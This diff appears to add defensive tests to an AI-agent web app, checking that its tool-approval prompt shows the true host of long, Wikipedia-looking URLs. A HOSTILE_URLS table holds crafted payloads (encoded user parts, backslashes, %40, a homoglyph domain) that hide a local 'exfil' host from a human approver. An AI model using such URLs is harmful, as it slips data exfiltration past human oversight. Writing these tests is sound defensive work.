@@ -1,4 +1,5 @@
 import asyncio
+import socket
 import time
 from xml.sax.saxutils import escape
 
@@ -59,6 +60,218 @@ def test_approving_from_the_page_queues_the_run_and_shows_the_message(client, us
     # A repeated answer (a double click, another tab) shows the turn as it is, saying why.
     assert repeated.status_code == 200 and "no longer open" in repeated.content.decode()
     assert 'form class="permission"' not in repeated.content.decode()
+
+
+# What a hostile model (or a page it read) asks web_fetch to read: about 3,000
+# characters that start like a Wikipedia article and may name another host far
+# past where a short prompt would stop. `{port}` listens on this machine. Each:
+# the URL, the host the prompt must show, whether web_fetch refuses the URL.
+PAD = "Heat_pump_efficiency_and_the_coefficient_of_performance_" * 52
+HOSTILE_URLS = {
+    "a user name spelt like a path": (
+        "https://en.wikipedia.org%2Fwiki%2FHeat_pump%3Fsection%3D" + PAD + "@127.0.0.1:{port}/page?exfil=owner-notes",
+        "127.0.0.1:{port}",
+        True,
+    ),
+    "backslashes before the @": (
+        "https://en.wikipedia.org\\wiki\\Heat_pump;section=" + PAD + "@127.0.0.1:{port}/page?exfil=owner-notes",
+        "127.0.0.1:{port}",
+        True,
+    ),
+    # httpx reads the host after the @; a browser reads the backslash as a slash.
+    "a backslash before the @": (
+        "https://127.0.0.1:{port}\\@en.wikipedia.org/wiki/Heat_pump?section=" + PAD,
+        "en.wikipedia.org",
+        True,
+    ),
+    "an @ spelt %40": (
+        "https://en.wikipedia.org%40127.0.0.1:{port}/page?section=" + PAD,
+        "en.wikipedia.org%40127.0.0.1:{port}",
+        True,
+    ),
+    "an @ in the fragment": (
+        "https://en.wikipedia.org/wiki/Heat_pump?section=" + PAD + "#@127.0.0.1:{port}/page",
+        "en.wikipedia.org",
+        False,
+    ),
+    "a look-alike name": ("https://аррӏе.com/wiki/Heat_pump?section=" + PAD, "аррӏе.com", False),
+}
+
+
+@pytest.fixture
+def listener():
+    """A port on this machine that records whether anything connected to it."""
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        server.setblocking(False)
+        yield server
+
+
+def _connected_to(listener) -> bool:
+    try:
+        listener.accept()[0].close()
+    except BlockingIOError:
+        return False
+    return True
+
+
+def _fetch_waiting(user, scripted_model, url) -> Run:
+    """A turn whose crawl agent asks to read `url` and waits for the answer."""
+    scripted_model.add(
+        Text(call("call_subagent", agent="crawl_agent", instruction="Read the heat pump article")),
+        Text(call("web_fetch", url=url), chunk_size=1000),
+    )
+    conversation = asking.conversation_start(user=user, content="How efficient are heat pumps?", enqueue=False)
+    run = conversation.active_branch.runs.get()
+    run_execute(run_id=run.pk)
+    run.refresh_from_db()
+    assert run.status == Run.Status.WAITING_PERMISSION
+    return run
+
+
+def _prompt(html: str):
+    """What the permission form says: host shown, its ASCII spelling, the
+    parameters as shown, the warnings, and the answers offered."""
+    [form] = lxml.html.fragment_fromstring(html, create_parent="div").xpath("//form[@class='permission']")
+
+    def texts(css_class):
+        return [" ".join(e.text_content().split()) for e in form.xpath(f".//*[contains(@class, '{css_class}')]")]
+
+    return {
+        "host": texts("fetch-host"),
+        "ascii": texts("fetch-ascii"),
+        "refused": texts("fetch-refused"),
+        "params": [
+            (dt.text_content(), dd.text_content())
+            for dt, dd in zip(form.xpath(".//dt"), form.xpath(".//dd"), strict=True)
+        ],
+        "unshowable": texts("unshowable"),
+        "decisions": form.xpath(".//button[@name='decision']/@value"),
+    }
+
+
+@pytest.mark.parametrize("case", HOSTILE_URLS, ids=list(HOSTILE_URLS))
+def test_the_approval_prompt_shows_the_host_a_long_url_really_names_and_the_url_whole(
+    signed_in, user, scripted_model, listener, case
+):
+    port = listener.getsockname()[1]
+    url, host, refused = HOSTILE_URLS[case]
+    url, host = url.format(port=port), host.format(port=port)
+    assert 2900 < len(url) < 3500
+    run = _fetch_waiting(user, scripted_model, url)
+
+    prompt = _prompt(signed_in.get(reverse("conversation-detail", args=[run.message.conversation_id])).content.decode())
+
+    # The host the fetch would go to, first and alone; the URL whole, as the model wrote it.
+    assert prompt["host"] == [host]
+    assert prompt["params"] == [("url", url)]
+    assert bool(prompt["refused"]) == refused
+    # A name in other scripts is spelt out as DNS is asked for it.
+    assert prompt["ascii"] == (["In ASCII, as it is looked up: xn--80ak6aa92e.com"] if "аррӏе" in url else [])
+    assert prompt["decisions"] == ["approve", "always", "deny"]
+
+
+def test_approving_a_url_with_a_user_before_its_host_reads_nothing_and_tells_the_model_why(
+    client, user, scripted_model, listener, settings
+):
+    settings.FETCH_ALLOWED_HOSTS = ["127.0.0.1"]  # only the user part stands in the way
+    settings.FETCH_TIMEOUT = 2.0
+    port = listener.getsockname()[1]
+    url = HOSTILE_URLS["a user name spelt like a path"][0].format(port=port)
+    run = _fetch_waiting(user, scripted_model, url)
+    scripted_model.add(Text("That address was refused."), Text("I could not read the article."))
+
+    client.force_login(user)
+    data = {"request_id": pending_request(run.checkpoint).id, "decision": "approve"}
+    client.post(reverse("run-permission", args=[run.pk]), data, **HTMX)
+    run_execute(run_id=run.pk)
+
+    run.refresh_from_db()
+    assert run.status == Run.Status.COMPLETED
+    assert not _connected_to(listener)
+    [fetched] = run.events.filter(type=RunEvent.Type.TOOL_COMPLETE, data__tool="web_fetch")
+    assert not fetched.data["success"]
+    told = scripted_model.requests[-2]["messages"][-1]["content"]
+    assert "web_fetch" in told and "user name or password" in told
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_the_websocket_pushes_the_same_prompt_as_the_page(async_client, user, scripted_model, listener, settings):
+    port = listener.getsockname()[1]
+    url = HOSTILE_URLS["a user name spelt like a path"][0].format(port=port)
+    run = await sync_to_async(_fetch_waiting)(user, scripted_model, url)
+    conversation_id = await sync_to_async(lambda: run.message.conversation_id)()
+    await async_client.aforce_login(user)
+    page = await async_client.get(reverse("conversation-detail", args=[conversation_id]))
+    cookie = f"{settings.SESSION_COOKIE_NAME}={async_client.cookies[settings.SESSION_COOKIE_NAME].value}"
+    watcher = WebsocketCommunicator(
+        application,
+        f"/ws/conversations/{conversation_id}/",
+        headers=[(b"origin", b"http://localhost"), (b"cookie", cookie.encode())],
+    )
+    assert (await watcher.connect())[0]
+    pushed = await watcher.receive_from(timeout=5)
+    while 'class="permission"' not in pushed:
+        pushed = await watcher.receive_from(timeout=5)
+    await watcher.disconnect()
+
+    shown = _prompt(pushed)
+    assert shown == _prompt(page.content.decode())
+    assert shown["host"] == [f"127.0.0.1:{port}"] and shown["params"] == [("url", url)]
+
+
+def test_a_call_too_long_to_show_whole_can_only_be_denied_and_the_model_is_told_why(
+    client, user, scripted_model, settings
+):
+    settings.TOOL_PERMISSIONS = {"create_artifact": "confirm"}
+    content = "The heat pump report, 热泵报告. " * 3000
+    scripted_model.add(Text(call("create_artifact", id="report", content=content), chunk_size=50_000))
+    conversation = asking.conversation_start(user=user, content="Write the report", enqueue=False)
+    run = run_execute(run_id=conversation.active_branch.runs.get().pk)
+    client.force_login(user)
+    request_id = pending_request(run.checkpoint).id
+    page = client.get(reverse("conversation-detail", args=[conversation.pk])).content.decode()
+
+    prompt = _prompt(page)
+    assert prompt["decisions"] == ["deny"]
+    assert prompt["unshowable"] == [
+        f"This call cannot be approved: its content is {len(content):,} characters long, "
+        "too long to show here whole. Deny it and the agent is told why."
+    ]
+    # A forged answer gets no further than the buttons.
+    for decision in ("approve", "always"):
+        forged = client.post(
+            reverse("run-permission", args=[run.pk]), {"request_id": request_id, "decision": decision}, **HTMX
+        )
+        assert "This call cannot be approved" in forged.content.decode()
+    run.refresh_from_db()
+    assert run.status == Run.Status.WAITING_PERMISSION
+
+    scripted_model.add(Text("I will write it in parts."))
+    client.post(reverse("run-permission", args=[run.pk]), {"request_id": request_id, "decision": "deny"}, **HTMX)
+    run = run_execute(run_id=run.pk)
+    assert run.status == Run.Status.COMPLETED
+    told = scripted_model.requests[-1]["messages"][-1]["content"]
+    assert "The user denied this call. It could not be approved: its parameter content" in told
+
+
+@pytest.mark.events_by_hand
+def test_parameters_are_shown_as_data_whatever_their_names(signed_in, user):
+    run = RunFactory(message__conversation__owner=user, status=Run.Status.WAITING_PERMISSION)
+    params = {"items": "all of them", "keys": "<b>k</b>", "values": 3}
+    RunEvent.objects.create(
+        run=run,
+        seq=1,
+        type="permission_request",
+        agent="lead_agent",
+        data={"id": "p", "tool": "odd_tool", "params": params},
+    )
+
+    prompt = _prompt(signed_in.get(reverse("conversation-detail", args=[run.message.conversation_id])).content.decode())
+
+    # (in the order the database keeps them: Postgres's jsonb sorts keys its own way)
+    assert sorted(prompt["params"]) == [("items", "all of them"), ("keys", "<b>k</b>"), ("values", "3")]
 
 
 def test_another_user_gets_a_404_for_both_controls(client, other_user, waiting_run):
